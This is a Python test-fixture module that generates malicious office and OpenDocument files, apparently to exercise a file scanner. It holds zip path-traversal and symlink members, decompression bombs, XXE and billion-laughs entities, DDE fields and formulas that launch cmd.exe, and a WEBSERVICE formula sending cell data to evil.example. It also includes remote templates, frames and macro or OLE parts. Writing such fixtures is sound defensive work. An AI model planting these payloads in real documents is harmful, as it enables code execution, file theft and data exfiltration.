"""Containers, and office files of both families."""

import io
import zipfile

from tests.factories import office, pdf
from tests.hostile_files.making import HTML, ODF, OOXML, RELATIONS, Files, made, open_document

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
PARTS = {"docx": "word", "xlsx": "xl", "pptx": "ppt"}
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><x>&b;</x>'
XXE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'


def relation(kind, target, mode="External"):
    return (
        f'<Relationships><Relationship Id="r1" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="{mode}"/>'
        "</Relationships>"
    )


def word(body):
    return office("docx", {"word/document.xml": f'<w:document xmlns:w="urn:w">{body}</w:document>'})


def field(*words):
    signs = [f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in words]
    return word(f'<w:fldChar w:fldCharType="begin"/>{"".join(signs)}<w:fldChar w:fldCharType="end"/>')


def sheet(formula):
    return office("xlsx", {"xl/worksheets/sheet1.xml": f"<worksheet><c><f>{formula}</f></c></worksheet>"})


def raw_zip(change):
    """An office file whose ZIP was made by hand."""
    stream = io.BytesIO(office("docx"))
    with zipfile.ZipFile(stream, "a") as archive:
        change(archive)
    return stream.getvalue()


def link_member(archive):
    member = zipfile.ZipInfo("word/link")
    member.external_attr = 0o120777 << 16
    archive.writestr(member, "/etc/passwd")


def encrypted():
    """The flag of a member that is locked with a password."""
    content = bytearray(office("docx"))
    place = content.find(b"PK\1\2")
    content[place + 8] |= 1
    return bytes(content)


def lying_size():
    """A member that states another checksum than it has."""
    content = bytearray(office("docx", {"word/more.xml": "<x>" + "a" * 500 + "</x>"}))
    place = content.rfind(b"PK\1\2")
    content[place + 16] ^= 0xFF
    return bytes(content)


def containers() -> Files:
    files: Files = {
        "escaping path": made("docx", "../../etc/cron.d/x", "x"),
        "absolute path": made("docx", "/etc/cron.d/x", "x"),
        "path of Windows": ("a.docx", lambda: raw_zip(lambda found: found.writestr("word\\..\\x", "x"))),
        "drive": made("docx", "C:/x", "x"),
        "two of a name": made("docx", "Word/Document.xml", "<x/>"),
        "symbolic link": ("a.docx", lambda: raw_zip(link_member)),
        "locked": ("a.docx", encrypted),
        "wrong checksum": ("a.docx", lying_size),
        "html before": ("a.docx", lambda: HTML + office("docx")),
        "html behind": ("a.docx", lambda: office("docx") + HTML),
        "pdf before": ("a.docx", lambda: pdf() + office("docx")),
        "comment": ("a.docx", lambda: raw_zip(lambda found: setattr(found, "comment", HTML))),
        "cut off": ("a.docx", lambda: office("docx")[:-9]),
        "not of the kind": ("a.xlsx", lambda: office("docx")),
        "plain archive": made("docx", "[Content_Types].xml", "<Types/>"),
        "ods as odt": ("a.odt", lambda: office("ods")),
    }
    for extension in (*OOXML, *ODF):
        files |= {
            f"{extension}: bomb": (f"a.{extension}", lambda e=extension: office(e, {"bomb.xml": b"0" * 70_000_000})),
            f"{extension}: small bomb": (f"a.{extension}", lambda e=extension: office(e, {"b.bin": b"0" * 20_000_000})),
            f"{extension}: many": (
                f"a.{extension}",
                lambda e=extension: office(e, {f"{n}.xml": "" for n in range(2500)}),
            ),
            f"{extension}: archive": made(extension, "media/x.bin", office("docx")),
            f"{extension}: program": made(extension, "media/x.bin", b"MZ\x90\0"),
            f"{extension}: object": made(extension, "media/x.bin", OLE),
            f"{extension}: entities": made(extension, "more.xml", LAUGHS),
            f"{extension}: outside entity": made(extension, "more.xml", XXE),
            f"{extension}: broken xml": made(extension, "more.xml", "<a><b></a>"),
        }
    return files


def office_files() -> Files:
    files: Files = {
        "field DDE": ("a.docx", lambda: field("DDEAUTO c:\\\\windows\\\\cmd.exe")),
        "field in pieces": ("a.docx", lambda: field(" DD", "E", "AUTO cmd")),
        "field in figures": ("a.docx", lambda: field("QUOTE 68 68 69")),
        "field with picture": ("a.docx", lambda: field('INCLUDEPICTURE "http://evil.example/x.png"')),
        "simple field": ("a.docx", lambda: word('<w:fldSimple w:instr=" dde cmd /c calc"/>')),
        "foreign chunk": made("docx", "word/_rels/document.xml.rels", relation("aFChunk", "x.htm", "")),
        "formula DDE": ("a.xlsx", lambda: sheet("cmd|'/c calc'!A0")),
        "formula web": ("a.xlsx", lambda: sheet('_xlfn.WEBSERVICE("http://evil.example/" &amp; A1)')),
        "dde link": made("xlsx", "xl/links/x.xml", '<externalLink><ddeLink ddeService="cmd"/></externalLink>'),
        "old macros": made("xlsx", "xl/macrosheets/sheet1.xml", "<x/>"),
        "other workbook": made("xlsx", "xl/externalLinks/externalLink1.xml", "<x/>"),
        "data connection": made("xlsx", "xl/_rels/workbook.xml.rels", relation("connections", "connections.xml", "")),
        "program on click": made("pptx", "ppt/slides/slide1.xml", '<x action="ppaction://program"/>'),
        "macro on click": made("pptx", "ppt/slides/slide1.xml", '<x action="ppaction://macro?name=x"/>'),
    }
    for extension, folder in PARTS.items():
        rels = f"{folder}/_rels/x.xml.rels"
        kinds = {"attachedTemplate": "https://evil.example/x.dotm", "image": "http://evil.example/x.png"}
        kinds |= {"frame": "http://evil.example/", "subDocument": "x.docx", "oleObject": "file:///x.bin"}
        parts = {name: {rels: relation(name, target)} for name, target in kinds.items()}
        links = (
            "javascript:alert(1)",
            "java\tscript:alert(1)",
            "file:///c:/windows/cmd.exe",
            "\\\\evil.example\\x",
            "ms-word:x",
        )
        parts |= {f"link {number}": {rels: relation("hyperlink", link)} for number, link in enumerate(links)}
        parts |= {
            "macros": {f"{folder}/vbaProject.bin": b"x"},
            "object": {f"{folder}/embeddings/oleObject1.bin": OLE},
            "controls": {f"{folder}/activeX/activeX1.xml": "<x/>"},
            "table with macros": {f"{folder}/embeddings/x.xlsx": office("xlsx", {"xl/vbaProject.bin": "x"})},
            "macro type": {
                "[Content_Types].xml": office_types(extension, "application/vnd.ms-word.document.macroEnabled.main+xml")
            },
        }
        for name, added in parts.items():
            files[f"{extension}: {name}"] = (f"a.{extension}", lambda e=extension, a=added: office(e, a))
    return files


def office_types(extension, another):
    with zipfile.ZipFile(io.BytesIO(office(extension))) as archive:
        words = archive.read("[Content_Types].xml").decode()
    return words.replace("</Types>", f'<Override PartName="/x" ContentType="{another}"/></Types>')


def open_documents() -> Files:
    bodies = {
        "listener": '<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/>',
        "script": '<office:scripts><office:script script:language="ooo:Basic"/></office:scripts>',
        "program on click": '<presentation:event-listener presentation:action="execute" xlink:href="cmd.exe"/>',
        "ole": '<draw:object-ole xlink:href="./Object 1"/>',
        "frame": '<draw:floating-frame xlink:href="https://evil.example/"/>',
        "applet": '<draw:applet xlink:href="./x.jar"/>',
        "picture from elsewhere": '<draw:image xlink:href="https://evil.example/x.png"/>',
        "share": '<draw:image xlink:href="//evil.example/x.png"/>',
        "section from elsewhere": '<text:section-source xlink:href="file:///etc/passwd"/>',
        "dde": '<office:dde-source office:dde-application="soffice" office:dde-topic="x"/>',
        "formula": """<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;x&quot;)"/>""",
        "script as link": '<text:a xlink:href="vnd.sun.star.script:x$y?language=Python"/>',
        "program as link": '<text:a xlink:href="file:///c:/windows/cmd.exe"/>',
        "template from elsewhere": '<meta:template xlink:href="https://evil.example/x.ott"/>',
    }
    files: Files = {}
    for extension in ODF:
        for name, body in bodies.items():
            files[f"{extension}: {name}"] = (f"a.{extension}", lambda e=extension, b=body: open_document(e, b))
        files[f"{extension}: Basic"] = made(extension, "Basic/Standard/x.xml", "<x/>")
        files[f"{extension}: Python"] = made(extension, "Scripts/python/x.py", "x")
    return files
